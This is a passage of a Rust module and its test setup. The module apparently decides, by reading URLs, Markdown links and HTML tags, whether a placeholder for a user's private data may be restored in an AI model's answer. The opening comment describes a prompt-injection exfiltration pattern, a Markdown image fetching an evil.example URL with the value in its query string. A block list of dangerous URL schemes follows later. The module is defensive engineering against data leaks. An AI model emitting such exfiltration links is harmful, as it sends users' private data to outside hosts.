//! Decides by its position in a text whether a placeholder may be restored.
//!
//! A model, or a text injected into its context, can exfiltrate a value: a page that shows the answer fetches
//! `![x](https://evil.example/?q=…)`. So a placeholder inside a URL is restored only if the caller wrote
//! every host of the URL, or the workspace allows it. In plain text it is always restored.
//!
//! Programs read the same text in different ways: where a URL ends, whether `]:` begins a definition, which quotation mark
//! closes an attribute. So several automata read the text once, character by character, with the values instead of the
//! placeholders, each for one syntax: bare URLs, Markdown links, Markdown definitions, HTML tags, and HTML tags that begin
//! within others. Each begins wherever its syntax may begin, and the strictest verdict holds. They read only the text, so
//! a verdict does not depend on the chunks. At most the current URL is undecided.

use std::{collections::VecDeque, mem, ops::Range};

use percent_encoding::percent_decode_str;

use super::hosts::{Hosts, host_of, is_host_letter, is_named_host};

/// The longest URL, word or attribute that is read, in bytes. Placeholders after that are withheld until it
/// ends.
const MAX_TARGET: usize = 2_048;
/// The longest name of an HTML tag or attribute, in bytes.
const MAX_NAME: usize = 32;

/// The encoding of a restored value.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Encoding {
    /// Unencoded.
    Plain,
    /// As text in an HTML attribute.
    Html,
    /// Unencoded, as the whole of a URL up to its path.
    Target,
    /// Percent-encoded, as a part of a URL after its authority.
    Url,
}

/// The verdict on a placeholder.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Verdict {
    /// It is replaced by its value.
    Restore(Encoding),
    /// It stays.
    Withhold,
}

const PLAIN: Verdict = Verdict::Restore(Encoding::Plain);
const TARGET: Verdict = Verdict::Restore(Encoding::Target);

/// Reads the text of an answer and decides on its placeholders, in order.
pub(super) struct PlaceReader {
    words: Words,
    links: Destinations,
    definitions: Destinations,
    markup: [Markup; 2],
}

impl Default for PlaceReader {
    fn default() -> Self {
        Self {
            words: Words::default(),
            links: Destinations::new(Syntax::Link),
            definitions: Destinations::new(Syntax::Definition),
            markup: [false, true].map(|restarts| Markup { restarts, ..Markup::default() }),
        }
    }
}

impl PlaceReader {
    /// Reads a string of JSON: if it begins like a URL, all of it is one, whatever it contains.
    pub(super) fn of_string() -> Self {
        Self { words: Words { beginning: Beginning::Scheme, ..Words::default() }, ..Self::default() }
    }

    /// Reads more of the text.
    pub(super) fn text(&mut self, text: &str, hosts: &Hosts) {
        for letter in text.chars() {
            self.words.letter(letter, hosts);
            self.links.letter(letter, hosts);
            self.definitions.letter(letter, hosts);
            self.markup.iter_mut().for_each(|markup| markup.letter(letter, hosts));
        }
    }

    /// Reads a placeholder with its `value`.
    pub(super) fn placeholder(&mut self, value: &str, hosts: &Hosts) {
        self.words.placeholder(value, hosts);
        self.links.placeholder(value, hosts);
        self.definitions.placeholder(value, hosts);
        self.markup.iter_mut().for_each(|markup| markup.placeholder(value, hosts));
    }

    /// Ends the text; every placeholder is then decided.
    pub(super) fn finish(&mut self, hosts: &Hosts) {
        self.words.end(hosts);
        self.links.end(hosts);
        self.definitions.end(hosts);
        self.markup.iter_mut().for_each(|markup| markup.end(hosts));
    }

    /// Returns the verdict on the next placeholder; `None` if it needs more text.
    pub(super) fn next(&mut self) -> Option<Verdict> {
        let [markup, restarting] = &mut self.markup;
        let mut all = [
            &mut self.words.target,
            &mut self.links.target,
            &mut self.definitions.target,
            &mut markup.target,
            &mut restarting.target,
        ];
        if all.iter().any(|target| target.verdicts.is_empty()) {
            return None;
        }
        all.iter_mut().filter_map(|target| target.verdicts.pop_front()).max()
    }
}

/// A word, URL or attribute with the values instead of its placeholders.
#[derive(Default)]
struct Target {
    text: String,
    /// Placeholders without a verdict, in bytes of the text.
    open: VecDeque<Range<usize>>,
    verdicts: VecDeque<Verdict>,
    is_too_long: bool,
}

impl Target {
    fn push(&mut self, letter: char) {
        if self.text.len() < MAX_TARGET {
            return self.text.push(letter);
        }
        self.is_too_long = true;
        self.close(Verdict::Withhold);
    }

    fn placeholder(&mut self, value: &str) {
        if self.is_too_long || self.text.len() + value.len() > MAX_TARGET {
            self.is_too_long = true;
            self.close(Verdict::Withhold);
            return self.verdicts.push_back(Verdict::Withhold);
        }
        let start = self.text.len();
        self.text.push_str(value);
        self.open.push_back(start..self.text.len());
    }

    /// Sets the verdicts of the open placeholders for which `judge` returns one.
    fn decide(&mut self, judge: impl Fn(&str, &Range<usize>) -> Option<Verdict>) {
        while let Some(verdict) = self.open.front().and_then(|range| judge(&self.text, range)) {
            self.open.pop_front();
            self.verdicts.push_back(verdict);
        }
    }

    /// Sets the verdict of all open placeholders.
    fn close(&mut self, verdict: Verdict) {
        self.verdicts.extend(mem::take(&mut self.open).into_iter().map(|_| verdict));
    }

    fn clear(&mut self) {
        self.close(Verdict::Withhold);
        self.text.clear();
        self.is_too_long = false;
    }
}

/// Reads words, which may be bare URLs.
#[derive(Default)]
struct Words {
    target: Target,
    beginning: Beginning,
}

/// The part of a URL at the beginning of a string of JSON: a scheme, two slashes and a host, or that without the scheme.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Beginning {
    /// It is no string, or it begins with something else.
    #[default]
    Elsewhere,
    Scheme,
    Colon,
    Slashes(usize),
    /// All of the string is a URL.
    Url,
}

impl Beginning {
    fn then(self, letter: char) -> Self {
        match (self, letter) {
            (Self::Url, _) => Self::Url,
            (Self::Scheme | Self::Colon, '/' | '\\') => Self::Slashes(1),
            (Self::Slashes(count), '/' | '\\') => Self::Slashes(count + 1),
            (Self::Scheme, ':') => Self::Colon,
            (Self::Scheme, letter) if letter.is_ascii_alphanumeric() || "+-.".contains(letter) => {
                Self::Scheme
            }
            // `// x` is a comment
            (Self::Slashes(2..), letter) if !letter.is_whitespace() => Self::Url,
            _ => Self::Elsewhere,
        }
    }
}

impl Words {
    fn letter(&mut self, letter: char, hosts: &Hosts) {
        if self.beginning != Beginning::Url && is_end_of_word(letter) {
            // only the first word of a string begins it
            if !self.target.text.is_empty() {
                self.beginning = Beginning::Elsewhere;
            }
            return self.end(hosts);
        }
        self.beginning = self.beginning.then(letter);
        self.target.push(letter);
        if is_decisive(letter) {
            self.decide(hosts, false);
        }
    }

    fn placeholder(&mut self, value: &str, hosts: &Hosts) {
        self.beginning = value.chars().fold(self.beginning, Beginning::then);
        self.target.placeholder(value);
        self.decide(hosts, false);
    }

    fn end(&mut self, hosts: &Hosts) {
        self.decide(hosts, true);
        self.target.clear();
    }

    fn decide(&mut self, hosts: &Hosts, ends: bool) {
        match self.beginning {
            Beginning::Url => self.target.decide(|url, range| in_destination(url, range, hosts, ends)),
            _ => self.target.decide(|word, range| in_word(word, range, hosts, ends)),
        }
    }
}

/// The preceding character of a text.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Last {
    #[default]
    Nothing,
    Letter(char),
    /// A placeholder, whose own brackets are in the text if it stays.
    Placeholder,
}

/// The notation of a destination of Markdown.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Written {
    /// Only white space was read.
    Unknown,
    /// With this depth of parentheses.
    Bare(usize),
    /// After `<`.
    Angle,
    /// After the `>` of that.
    Title,
}

/// The kinds of destinations in Markdown.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Syntax {
    /// A link or an image: `[text](destination)`.
    Link,
    /// A reference definition, whose destination may be on the next line: `[label]: destination`.
    Definition,
}

/// Reads the destinations of one syntax of Markdown.
struct Destinations {
    syntax: Syntax,
    /// The form of the current destination; `None` outside of one.
    form: Option<Written>,
    /// The bracket before the destination may be the last one of a placeholder that stays.
    is_doubtful: bool,
    target: Target,
    last: Last,
}

impl Destinations {
    fn new(syntax: Syntax) -> Self {
        Self { syntax, form: None, is_doubtful: false, target: Target::default(), last: Last::default() }
    }

    fn letter(&mut self, letter: char, hosts: &Hosts) {
        let last = mem::replace(&mut self.last, Last::Letter(letter));
        let Some(form) = self.form else {
            let begins = match self.syntax {
                Syntax::Link => letter == '(' && matches!(last, Last::Letter(']') | Last::Placeholder),
                Syntax::Definition => letter == ':' && last == Last::Letter(']'),
            };
            self.form = begins.then_some(Written::Unknown);
            self.is_doubtful = last == Last::Placeholder;
            return;
        };
        if form == Written::Unknown && letter.is_whitespace() {
            // an empty line ends it
            if letter == '\n' && last == Last::Letter('\n') {
                self.end(hosts);
            }
            return;
        }
        let next = match self.syntax {
            Syntax::Link => in_link(form, letter, last),
            Syntax::Definition => in_definition(form, letter),
        };
        if next.is_none() {
            return self.end(hosts);
        }
        self.form = next;
        self.target.push(letter);
        if is_decisive(letter) {
            self.decide(hosts, false);
        }
    }

    fn placeholder(&mut self, value: &str, hosts: &Hosts) {
        self.last = Last::Placeholder;
        match &mut self.form {
            Some(form) => {
                if *form == Written::Unknown {
                    *form = Written::Bare(1);
                }
                self.target.placeholder(value);
                self.decide(hosts, false);
            }
            None => self.target.verdicts.push_back(PLAIN),
        }
    }

    fn end(&mut self, hosts: &Hosts) {
        self.decide(hosts, true);
        self.target.clear();
        self.form = None;
    }

    fn decide(&mut self, hosts: &Hosts, ends: bool) {
        let (syntax, is_doubtful) = (self.syntax, self.is_doubtful);
        self.target.decide(|link, range| match syntax {
            // `[[NAME_…]]([[EMAIL_…]])` is text unless a URL is there
            Syntax::Link if is_doubtful && !link.get(..range.start)?.contains(OF_URLS) => Some(PLAIN),
            // `[10:32]: [[NAME_…]]`
            Syntax::Definition if !link.contains(OF_URLS) => ends.then_some(PLAIN),
            _ => in_destination(link, range, hosts, ends),
        });
    }
}

/// The form of a link's destination with one more character; `None` if that ends it.
fn in_link(form: Written, letter: char, last: Last) -> Option<Written> {
    let is_escaped = last == Last::Letter('\\');
    match (form, letter) {
        (_, '\n') if last == Last::Letter('\n') => None,
        (Written::Unknown, '<') => Some(Written::Angle),
        (Written::Angle, '>') if !is_escaped => Some(Written::Title),
        // no destination in angle brackets has an end of line: some programs read on
        (Written::Angle, '\n') => Some(Written::Bare(1)),
        (Written::Angle, _) => Some(Written::Angle),
        (_, _) if is_escaped => Some(form),
        (Written::Unknown | Written::Title | Written::Bare(1), ')') => None,
        (Written::Unknown, '(') => Some(Written::Bare(2)),
        (Written::Unknown, _) => Some(Written::Bare(1)),
        (Written::Bare(depth), '(') => Some(Written::Bare(depth + 1)),
        (Written::Bare(depth), ')') => Some(Written::Bare(depth - 1)),
        (Written::Title | Written::Bare(_), _) => Some(form),
    }
}

/// The form of a definition's destination with one more character; `None` if that ends it.
fn in_definition(form: Written, letter: char) -> Option<Written> {
    match form {
        Written::Unknown if letter == '<' => Some(Written::Angle),
        Written::Unknown => Some(Written::Bare(1)),
        Written::Angle => (!matches!(letter, '>' | '\n')).then_some(form),
        Written::Bare(_) | Written::Title => (!letter.is_ascii_whitespace()).then_some(form),
    }
}

/// Characters of which a URL with a host has some.
const OF_URLS: [char; 4] = [':', '/', '\\', '&'];

/// Whether a character may decide on a placeholder before it: letters of a host and its port only continue
/// it.
fn is_decisive(letter: char) -> bool {
    !is_host_letter(letter) && letter != ':'
}

/// Whether a character ends a URL in all programs that detect them: GitHub's stop at nothing else.
fn is_end_of_word(letter: char) -> bool {
    letter.is_ascii_whitespace() || letter == '<'
}

/// Parses HTML tags and their attributes.
#[derive(Default)]
struct Markup {
    /// A tag begins at each `<` before a letter, within an attribute, too: programs disagree on which quotation mark closes one.
    restarts: bool,
    state: MarkupState,
    target: Target,
    /// The name of the tag, and of the attribute, in lower case.
    tag: String,
    attribute: String,
    /// A space follows the name of the attribute.
    has_gap: bool,
    /// The tag follows a backtick: it is code in a Markdown text.
    is_quoted: bool,
    /// The last character and the one before it.
    last: [Option<char>; 2],
}

#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum MarkupState {
    #[default]
    Text,
    /// After `<`.
    Opening,
    TagName,
    /// Between the attributes of a tag, or in the name of one.
    Tag,
    /// After the equals sign of an attribute.
    BeforeValue,
    /// In the value of an attribute, in these quotation marks.
    Value(Option<char>, Attribute),
    /// In an element whose text is run, or sent as a form.
    Code,
}

/// The kind of an attribute's value.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Attribute {
    /// Visible or spoken text.
    Text,
    /// A URL.
    Url,
    /// Code, styles, several URLs, or data of a form.
    Other,
}

impl Markup {
    fn letter(&mut self, letter: char, hosts: &Hosts) {
        let before = self.last;
        self.last = [Some(letter), before[0]];
        if self.restarts
            && before[0] == Some('<')
            && letter.is_ascii_alphabetic()
            && let MarkupState::Value(_, kind) = self.state
        {
            self.decide(kind, hosts, true);
            self.target.clear();
            self.state = MarkupState::Opening;
        }
        match self.state {
            MarkupState::Text => self.text(letter, before),
            MarkupState::Opening if letter.is_ascii_alphabetic() || letter == '/' => {
                self.tag.clear();
                self.state = MarkupState::TagName;
                self.name(letter);
            }
            MarkupState::Opening => {
                self.state = MarkupState::Text;
                self.text(letter, before);
            }
            MarkupState::TagName => match letter {
                '>' => self.leave_tag(),
                letter if is_space(letter) || (letter == '/' && self.tag != "/") => {
                    self.state = MarkupState::Tag;
                    self.attribute.clear();
                }
                letter => self.name(letter),
            },
            MarkupState::Tag => match letter {
                '>' => self.leave_tag(),
                '<' => self.state = MarkupState::Opening,
                '=' => self.state = MarkupState::BeforeValue,
                letter if is_space(letter) || letter == '/' => self.has_gap = true,
                letter => {
                    if mem::take(&mut self.has_gap) {
                        self.attribute.clear();
                    }
                    if self.attribute.len() < MAX_NAME {
                        self.attribute.push(letter.to_ascii_lowercase());
                    }
                }
            },
            MarkupState::BeforeValue => match letter {
                '>' => self.leave_tag(),
                '"' | '\'' => self.state = MarkupState::Value(Some(letter), attribute(&self.attribute)),
                letter if is_space(letter) => {}
                letter => {
                    self.state = MarkupState::Value(None, attribute(&self.attribute));
                    self.target.push(letter);
                }
            },
            MarkupState::Value(quote, kind) => {
                let ends = match quote {
                    Some(quote) => letter == quote,
                    None => is_space(letter) || letter == '>',
                };
                if !ends {
                    self.target.push(letter);
                    if is_decisive(letter) {
                        self.decide(kind, hosts, false);
                    }
                    return;
                }
                self.decide(kind, hosts, true);
                self.target.clear();
                self.attribute.clear();
                self.state = MarkupState::Tag;
                if quote.is_none() && letter == '>' {
                    self.leave_tag();
                }
            }
            MarkupState::Code => {
                // code in a Markdown text does not reach beyond an empty line
                self.is_quoted &= (letter, before[0]) != ('\n', Some('\n'));
                if letter == '<' {
                    self.target.text.clear();
                }
                self.target.text.push(letter.to_ascii_lowercase());
                let ends = self.target.text.strip_prefix("</").is_some_and(|tag| tag == self.tag);
                if ends || (self.is_quoted && letter == '`') {
                    self.target.clear();
                    self.state = if ends { MarkupState::Tag } else { MarkupState::Text };
                    self.tag.clear();
                } else if self.target.text.len() > MAX_NAME {
                    self.target.text.clear();
                }
            }
        }
    }

    fn text(&mut self, letter: char, [last, before]: [Option<char>; 2]) {
        if letter == '<' {
            self.is_quoted = last == Some('`') && before != Some('\\');
            self.state = MarkupState::Opening;
        }
    }

    fn name(&mut self, letter: char) {
        if self.tag.len() < MAX_NAME {
            self.tag.push(letter.to_ascii_lowercase());
        }
    }

    fn leave_tag(&mut self) {
        let is_code = matches!(
            self.tag.as_str(),
            "form" | "iframe" | "option" | "script" | "select" | "style" | "textarea"
        );
        self.state = if is_code { MarkupState::Code } else { MarkupState::Text };
        self.attribute.clear();
        self.has_gap = false;
    }

    fn placeholder(&mut self, value: &str, hosts: &Hosts) {
        self.last = [None; 2];
        match self.state {
            MarkupState::BeforeValue => {
                self.state = MarkupState::Value(None, attribute(&self.attribute));
                self.placeholder(value, hosts);
            }
            MarkupState::Value(_, kind) => {
                self.target.placeholder(value);
                self.decide(kind, hosts, false);
            }
            MarkupState::Code => self.target.verdicts.push_back(Verdict::Withhold),
            MarkupState::Opening => {
                self.state = MarkupState::Text;
                self.target.verdicts.push_back(PLAIN);
            }
            MarkupState::Text | MarkupState::TagName | MarkupState::Tag => {
                self.target.verdicts.push_back(PLAIN)
            }
        }
    }

    fn decide(&mut self, kind: Attribute, hosts: &Hosts, ends: bool) {
        self.target.decide(|value, range| match kind {
            Attribute::Text => Some(Verdict::Restore(Encoding::Html)),
            Attribute::Url => in_destination(value, range, hosts, ends),
            Attribute::Other => Some(Verdict::Withhold),
        });
    }

    fn end(&mut self, hosts: &Hosts) {
        if let MarkupState::Value(_, kind) = self.state {
            self.decide(kind, hosts, true);
        }
        self.target.clear();
        self.state = MarkupState::Text;
    }
}

/// Whether HTML separates by a character.
fn is_space(letter: char) -> bool {
    letter.is_ascii_whitespace()
}

fn attribute(name: &str) -> Attribute {
    match name {
        "alt" | "title" | "label" | "placeholder" | "summary" | "abbr" => Attribute::Text,
        name if name.starts_with("aria-") => Attribute::Text,
        "href" | "src" | "action" | "formaction" | "poster" | "cite" | "background" | "data" | "longdesc"
        | "xlink:href" => Attribute::Url,
        _ => Attribute::Other,
    }
}

/// Schemes of URLs without a host: their content is shown or run.
const OPAQUE: [&str; 7] = ["data:", "javascript:", "vbscript:", "blob:", "file:", "intent:", "view-source:"];
/// Schemes of URLs that address a person.
const PERSONAL: [&str; 5] = ["mailto:", "tel:", "sms:", "callto:", "xmpp:"];
/// Characters that end the authority of a URL.
const END_OF_AUTHORITY: [char; 4] = ['/', '\\', '?', '#'];

/// Returns the verdict on a placeholder in a word; `None` if it needs more of the word.
fn in_word(word: &str, range: &Range<usize>, hosts: &Hosts, ends: bool) -> Option<Verdict> {
    let (before, behind) = (word.get(..range.start)?, word.get(range.end..)?);
    if find_scheme(before, &OPAQUE).is_some() {
        return Some(Verdict::Withhold);
    }
    if let Some(address) = find_scheme(before, &PERSONAL) {
        return of_person(word.get(address..range.start)?, behind, ends);
    }
    let links = Links::of(word, range, ends);
    if links.may_go_on {
        return None;
    }
    Some(links.verdict(word, range, hosts))
}

/// Returns the verdict on a placeholder in the destination of a link; `None` if it needs more of it.
fn in_destination(written: &str, range: &Range<usize>, hosts: &Hosts, ends: bool) -> Option<Verdict> {
    let (before, behind) = (written.get(..range.start)?, written.get(range.end..)?);
    let start = decoded(before);
    let start = start.trim_start_matches(|letter: char| letter.is_whitespace() || letter == '<');
    if find_scheme(start, &OPAQUE) == Some(start.find(':').map_or(0, |at| at + 1)) {
        return Some(Verdict::Withhold);
    }
    if let Some(address) = PERSONAL.iter().find_map(|scheme| strip_scheme(start, scheme)) {
        return of_person(address, behind.trim_end_matches('>'), ends);
    }
    let whole = decoded(written);
    let whole = whole.trim_start_matches(|letter: char| letter.is_whitespace() || letter == '<');
    let Some((authority, is_closed)) = authority(whole) else {
        // a destination without a host, or a prefix of one
        return ends.then_some(Verdict::Withhold);
    };
    if !is_closed && !ends {
        return None;
    }
    // browsers skip these within a URL
    let authority = authority.replace(['\t', '\n', '\r'], "");
    let authority = authority.split([' ', '>']).next()?;
    let links = Links::of(written, range, ends);
    let is_allowed = host_of(authority).is_some_and(|host| hosts.allow(&host)) && links.are_allowed(hosts);
    if links.may_go_on && is_allowed {
        return None;
    }
    Some(match is_allowed {
        true if links.is_in_path(range) => Verdict::Restore(Encoding::Url),
        true => TARGET,
        false if is_whole_target(written, range) => TARGET,
        false => Verdict::Withhold,
    })
}

/// Splits off the authority of an absolute destination; also returns whether its end is known.
///
/// Returns `None` for a relative destination, and while the text is too short to decide.
fn authority(destination: &str) -> Option<(&str, bool)> {
    let slash = |letter: char| matches!(letter, '/' | '\\' | '\t' | '\n' | '\r');
    let scheme =
        destination.find(|letter: char| !letter.is_ascii_alphanumeric() && !"+-.".contains(letter))?;
    let (scheme, rest) = destination.split_at_checked(scheme)?;
    let behind = match rest.strip_prefix(':') {
        Some(rest) if !scheme.is_empty() => rest,
        _ if scheme.is_empty() => destination,
        _ => return None,
    };
    let authority = behind.trim_start_matches(slash);
    let slashes = behind.len() - authority.len();
    let is_special = matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https" | "ws" | "wss" | "ftp");
    if slashes < if is_special { 1 } else { 2 } {
        return None;
    }
    let end = authority.find(END_OF_AUTHORITY);
    Some((authority.get(..end.unwrap_or(authority.len()))?, end.is_some()))
}

/// Returns the verdict on a placeholder in an address of a person: it must be the first whole recipient, since a
/// message goes to all of them.
fn of_person(before: &str, behind: &str, ends: bool) -> Option<Verdict> {
    if !before.is_empty() {
        return Some(Verdict::Withhold);
    }
    let rest = behind.trim_start_matches(is_sign);
    match behind.starts_with(['?', ',']) || ends && rest.is_empty() {
        true => Some(TARGET),
        false if rest.is_empty() && !ends => None,
        false => Some(Verdict::Withhold),
    }
}

/// Whether a character may follow a URL without being part of it.
fn is_sign(letter: char) -> bool {
    ".,;:!?)]}>*_'\"`|”’»".contains(letter)
}

/// Finds one of the schemes at the start of a word; returns the byte after its colon.
fn find_scheme(text: &str, schemes: &[&str]) -> Option<usize> {
    text.match_indices(':').map(|(at, _)| at + 1).find(|end| {
        let Some(before) = text.get(..*end) else { return false };
        schemes.iter().any(|scheme| {
            let Some(start) = before.len().checked_sub(scheme.len()) else { return false };
            let is_it = before.get(start..).is_some_and(|found| found.eq_ignore_ascii_case(scheme));
            let last = before.get(..start).and_then(|before| before.chars().next_back());
            is_it && !last.is_some_and(|letter| letter.is_alphanumeric())
        })
    })
}

fn strip_scheme<'t>(text: &'t str, scheme: &str) -> Option<&'t str> {
    let (found, rest) = text.split_at_checked(scheme.len())?;
    found.eq_ignore_ascii_case(scheme).then_some(rest)
}

/// The hosts of the URLs in a word that contains a placeholder.
struct Links {
    /// Each host as written; `None` if it is not a valid host.
    hosts: Vec<Option<String>>,
    /// The end of the first authority, in bytes of the word.
    path: Option<usize>,
    /// The word may become a URL, or its authority may continue.
    may_go_on: bool,
}

impl Links {
    fn of(word: &str, range: &Range<usize>, ends: bool) -> Self {
        let mut links = Self { hosts: Vec::new(), path: None, may_go_on: false };
        links.read(word, range, ends);
        if !word.contains(['%', '&', '\\']) {
            return links;
        }
        // a URL may contain another one, as the target of a redirect
        let mut written = word.to_owned();
        for read in [decoded, percent_decoded, percent_decoded, percent_decoded] {
            let read = read(&written).replace('\\', "/");
            if read == written {
                continue;
            }
            written = read;
            for (at, _) in written.match_indices("//") {
                links.authority(written.get(at + 2..).unwrap_or_default(), written.get(..at), true);
            }
        }
        links
    }

    fn read(&mut self, word: &str, range: &Range<usize>, ends: bool) {
        for (at, _) in word.match_indices("//") {
            let Some((before, behind)) = word.split_at_checked(at) else { continue };
            let scheme = before.strip_suffix(':').map(|scheme| {
                scheme
                    .trim_end_matches(|letter: char| letter.is_ascii_alphanumeric() || "+-.".contains(letter))
                    .len()
            });
            // a URL that begins after the placeholder
            if range.end <= scheme.unwrap_or(at)
                || range.end <= at && scheme.is_some_and(|start| start < range.end)
            {
                continue;
            }
            self.authority(behind.get(2..).unwrap_or_default(), Some(before), ends);
            if let Some(end) = end_of_authority(word, at + 2) {
                self.path.get_or_insert(end);
            }
        }
        self.bare(word, range, ends);
    }

    /// Reads the authority after two slashes. Without a scheme it must look like a host.
    fn authority(&mut self, behind: &str, before: Option<&str>, ends: bool) {
        let behind = behind.trim_start_matches(['/', '\\']);
        let end = behind.find(END_OF_AUTHORITY);
        let authority = behind.get(..end.unwrap_or(behind.len())).unwrap_or_default();
        let authority = if end.is_none() { authority.trim_end_matches(is_sign) } else { authority };
        let has_scheme = before.is_some_and(|before| before.ends_with(':'));
        if !has_scheme && !is_named_host(authority) {
            return;
        }
        self.may_go_on |= end.is_none() && !ends;
        self.hosts.push(host_of(authority));
    }

    /// Reads a host without a scheme: `www.example.com`, `example.com/path`.
    fn bare(&mut self, word: &str, range: &Range<usize>, ends: bool) {
        let end = word.find(END_OF_AUTHORITY);
        let run = |end: usize| {
            let before = word.get(..end).unwrap_or_default();
            let host = before.trim_end_matches(|letter: char| is_host_letter(letter) || letter == ':');
            (host.len(), before.get(host.len()..).unwrap_or_default())
        };
        match end {
            Some(end) => {
                let (start, host) = run(end);
                let name = host.split_once(':').map_or(host, |(name, _)| name);
                // `jan@example.com/+420 …` is not a URL
                let is_mail = word.get(..start).is_some_and(|before| before.ends_with('@'));
                if start < range.end
                    && !is_mail
                    && is_named_host(name)
                    && !word.get(end..).unwrap_or_default().starts_with("//")
                {
                    self.path.get_or_insert(end);
                    self.hosts.push(host_of(host));
                }
            }
            None => {
                let (start, host) = run(word.len());
                // the host may continue, or its path may follow
                self.may_go_on |= start < range.end && !ends;
                let name = host.trim_start_matches(['_', '-']);
                if start < range.end && ends && strip_scheme(name, "www.").is_some() {
                    self.hosts.push(host_of(name));
                }
            }
        }
    }

    fn are_allowed(&self, hosts: &Hosts) -> bool {
        self.hosts.iter().all(|host| host.as_ref().is_some_and(|host| hosts.allow(host)))
    }

    fn is_in_path(&self, range: &Range<usize>) -> bool {
        self.path.is_some_and(|path| path <= range.start)
    }

    fn verdict(&self, word: &str, range: &Range<usize>, hosts: &Hosts) -> Verdict {
        match self.are_allowed(hosts) {
            true if self.is_in_path(range) => Verdict::Restore(Encoding::Url),
            true if self.hosts.is_empty() => PLAIN,
            true => TARGET,
            false if is_whole_target(word, range) => TARGET,
            false => Verdict::Withhold,
        }
    }
}

fn end_of_authority(word: &str, from: usize) -> Option<usize> {
    let rest = word.get(from..)?;
    let authority = rest.trim_start_matches(['/', '\\']);
    Some(from + (rest.len() - authority.len()) + authority.find(END_OF_AUTHORITY)?)
}

/// Whether a placeholder is the whole host of a URL, or all of it up to its path: then no third party
/// receives the value.
fn is_whole_target(text: &str, range: &Range<usize>) -> bool {
    let (Some(before), Some(value), Some(behind)) =
        (text.get(..range.start), text.get(range.clone()), text.get(range.end..))
    else {
        return false;
    };
    let behind = behind.trim_end_matches('>');
    // a port, and no password before another host
    let port = behind
        .strip_prefix(':')
        .map_or(behind, |port| port.trim_start_matches(|digit: char| digit.is_ascii_digit()));
    let is_closed = port.starts_with(END_OF_AUTHORITY)
        || behind.trim_start_matches(is_sign).is_empty()
        || port.len() < behind.len() && port.trim_start_matches(is_sign).is_empty();
    match value.split_once("://") {
        Some((_, rest)) => {
            let closed_inside = rest.find(END_OF_AUTHORITY);
            let authority = rest.get(..closed_inside.unwrap_or(rest.len())).unwrap_or_default();
            // nothing of a URL is before it
            let begins = !before.contains(['/', '\\', '%', ':', '&', '@'])
                && !before.chars().next_back().is_some_and(char::is_alphanumeric);
            begins && (closed_inside.is_some() || is_closed) && host_of(authority).is_some()
        }
        None => {
            let begins = before.is_empty() || (before.ends_with("://") && before.matches("//").count() == 1);
            // the name of a person before a host would reach it
            begins && is_closed && !value.contains('@') && is_named_host(value)
        }
    }
}

fn percent_decoded(written: &str) -> String {
    percent_decode_str(written).decode_utf8_lossy().into_owned()
}

/// Removes the escapes of Markdown and the entities of HTML from a destination.
fn decoded(written: &str) -> String {
    let mut out = String::with_capacity(written.len());
    let mut rest = written;
    while let Some(letter) = rest.chars().next() {
        let behind = rest.get(letter.len_utf8()..).unwrap_or_default();
        rest = match letter {
            '\\' if behind.starts_with(|next: char| next.is_ascii_punctuation() && next != '\\') => behind,
            '&' => match super::entities::read(rest) {
                Some((letter, len)) => {
                    out.push(letter);
                    rest.get(len..).unwrap_or_default()
                }
                None => {
                    out.push(letter);
                    behind
                }
            },
            letter => {
                out.push(letter);
                behind
            }
        };
    }
    out
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use textveil_engine::{Action, Context, DetectOptions, Keyring};

    use super::*;
    use crate::chat::{
        placeholder::{PlaceholderKey, Placeholders, RestoreCounts},
        protect::Guard,
        stream::{Answer, TextStream},
    };

    const SECRET: &[u8] = b"0123456789abcdef";
    const EMAIL: &str = "jan@example.cz";
    const NAME: &str = "Jan \"J\" & Novák";
    const WIKI: &str = "https://wiki.acme.example/start";
    /// The address of a tool, which the caller did not write.
    const TOOLS: &str = "https://tool.example/a";

    /// Returns the restored text, in these chunks. `@E`, `@N`, `@W`, `@T` and `@D` are placeholders.
    fn restored(text: &str, cuts: &[prop::sample::Index]) -> (String, RestoreCounts) {
        let rules = |_: &str| (Vec::new(), Some(Action::Flag));
        let guard = Guard::new(&DetectOptions::default(), rules, Keyring::new(0, SECRET).unwrap()).unwrap();
        let hosts = Hosts::new(vec!["*.crm.example".to_owned()]);
        let mut placeholders = Placeholders::with_hosts(PlaceholderKey::derive(SECRET).unwrap(), hosts);
        placeholders.read_hosts(&format!("{EMAIL}, see {WIKI}."));
        let mut text = text.to_owned();
        let mut made = Vec::new();
        for (sign, kind, value) in [
            ("@E", "email", EMAIL),
            ("@N", "person", NAME),
            ("@W", "url", WIKI),
            ("@T", "url", TOOLS),
            ("@D", "domain", "db.internal.example"),
        ] {
            let placeholder = placeholders.make(kind, value, value).unwrap();
            text = text.replace(&format!("%{sign}"), &placeholder.replace('[', "%5B").replace(']', "%5D"));
            text =
                text.replace(&format!("&{sign}"), &placeholder.replace('[', "&#91;").replace(']', "&rsqb;"));
            text = text.replace(sign, &placeholder);
            made.push((sign, placeholder));
        }
        let mut answer = Answer::new(guard, placeholders, Context::default(), 64);
        let mut places: Vec<usize> =
            cuts.iter().map(|cut| text.floor_char_boundary(cut.index(text.len() + 1))).collect();
        places.extend([0, text.len()]);
        places.sort_unstable();
        let (mut stream, mut out) = (TextStream::default(), String::new());
        for place in places.windows(2) {
            out.push_str(&stream.push(&mut answer, text.get(place[0]..place[1]).unwrap()).unwrap());
        }
        out.push_str(&stream.finish(&mut answer).unwrap());
        for (sign, placeholder) in made {
            out = out.replace(&placeholder, sign);
            out = out.replace(&placeholder.replace('[', "%5B").replace(']', "%5D"), &format!("%{sign}"));
            out = out.replace(&placeholder.replace('[', "&#91;").replace(']', "&rsqb;"), &format!("&{sign}"));
        }
        (out, answer.restores())
    }

    /// Texts in which every value is restored, with the results.
    const RESTORED: &[(&str, &str)] = &[
        ("Write to @E.", "Write to jan@example.cz."),
        ("@E", "jan@example.cz"),
        (
            "@E, @N: @E; (@E) \"@E\" '@E' *@E* `@E`",
            "jan@example.cz, Jan \"J\" & Novák: jan@example.cz; \
